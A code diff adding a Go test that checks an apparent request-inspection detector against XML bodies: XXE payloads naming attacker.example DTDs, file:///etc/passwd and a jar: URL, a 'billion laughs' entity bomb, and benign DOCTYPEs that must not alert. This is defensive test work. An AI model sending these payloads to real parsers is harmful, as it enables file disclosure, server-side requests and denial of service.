@@ -295,6 +295,39 @@ func TestDeserializationBodies(t *testing.T) {
 	}
 }
 
+// TestXMLBodies sends XML request bodies with an external DTD or
+// entities nested as in a "billion laughs", and the document types that
+// configuration and office files name, which are no attack.
+func TestXMLBodies(t *testing.T) {
+	ds := allDetectors(t)
+	laughs := `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>`
+	for _, c := range []struct{ body, want string }{
+		{`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r>1</r>`, "xxe-external-entity"},
+		{`<!DOCTYPE r PUBLIC "-//A//B//EN" "https://attacker.example:8443/x.dtd"><r>1</r>`, "xxe-external-entity"},
+		{`<!DOCTYPE r SYSTEM "file:///etc/passwd"><r>1</r>`, "xxe-external-entity"},
+		{`<!DOCTYPE r SYSTEM "jar:http://attacker.example/a.jar!/x.dtd"><r/>`, "xxe-external-entity"},
+		{laughs, "xml-entity-expansion"},
+		{`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>`, ""},
+		{`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><p>hi</p></body></html>`, ""},
+		{`<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="a"/>`, ""},
+		{`<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>`, ""},
+		{`<!DOCTYPE note [<!ENTITY co "Example Corp"><!ENTITY sig "&co; team">]><note>&sig;</note>`, ""},
+	} {
+		x := exchange()
+		x.Request.Method, x.Request.Path, x.Request.URI = "POST", "/api/v1/import", "/api/v1/import"
+		x.Request.Headers = append(x.Request.Headers, decoders.Header{Name: "content-type", Value: "application/xml"})
+		x.Request.Body = []byte(c.body)
+		decoders.ExtractParams(x, nil)
+		var got []string
+		for _, a := range inspectAll(ds, x) {
+			got = append(got, a.RuleId)
+		}
+		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
+			t.Errorf("%.70s…: %v, want %q", c.body, got, c.want)
+		}
+	}
+}
+
 // TestUploadedDocuments sends documents as multipart file uploads, which
 // the server parses: an SVG or XML with an external entity, a JSON import
 // with a gadget; an ordinary SVG raises nothing.
